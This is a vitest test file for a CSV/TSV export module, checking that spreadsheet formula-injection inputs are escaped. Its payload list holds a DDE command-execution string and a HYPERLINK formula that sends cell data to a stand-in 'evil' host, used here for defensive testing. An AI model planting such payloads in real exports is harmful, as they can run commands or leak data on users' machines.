import { expect, test } from 'vitest';
import { csvText, spreadsheetText, tsvLine } from '#core/export/csv-text.ts';

const FORMULAS = [
  "=cmd|' /C calc'!A0",
  '=HYPERLINK("http://evil/"&A1)',
  '+1+1',
  '-1+cmd|x!A0',
  '@SUM(A1)',
  '\t=1+1',
  '\r=1+1',
  '\n=1+1',
  '＝1+1',
  '＠SUM(1)',
];

test.each(FORMULAS)('%j does not run in a spreadsheet', (formula) => {
  const columns = [
    { header: formula, cell: () => formula },
    { header: 'weight', cell: () => -3.2 },
  ];
  const [header, row] = csvText([], columns, [0]).split(/(?<=,weight|,-3\.2)\r\n/);
  for (const line of [header!, row!]) expect(line.replace(/^"/, '')).toMatch(/^'/);
  expect(row).toMatch(/,-3\.2$/);
  expect(tsvLine([formula, -3.2])).toMatch(/^'[^\t\r\n]*\t-3\.2$/);
});

test('a formula in quotation marks does not run either, because pasting removes them', () => {
  expect(tsvLine(['"=1+1"', 'a'])).toBe('\'"=1+1"\ta');
  expect(spreadsheetText('"=1+1"')).toBe('"=1+1"');
});

test('leaves numbers and other texts unchanged', () => {
  for (const text of ['main', 'operator=', 'a@b', '1-2', '', ' x', '_start', '–']) expect(tsvLine([text])).toBe(text);
  expect(tsvLine([-3.2, 0, 1e21])).toBe('-3.2\t0\t1e+21');
});

test('keeps a name in one cell in a spreadsheet that splits at semicolons', () => {
  expect(csvText([], [{ header: 'h', cell: () => 'a;=1+1' }], [0])).toBe('h\r\n"a;=1+1"\r\n');
});

test.each([
  ['before: a,=1+1', "# before: a,'=1+1"],
  ['before: a, @x;=y\t=z', "# before: a, '@x;'=y\t'=z"],
  ['a,-1+cmd|x!A0', "# a,'-1+cmd|x!A0"],
  ['a,"=1+1"', `# a,"'=1+1"`],
  ['time 1..2, -3.2 %, x=y', '# time 1..2, -3.2 %, x=y'],
])('the note %j is split without a formula', (note, line) => {
  expect(csvText([note], [], []).split('\r\n')[0]).toBe(line);
});
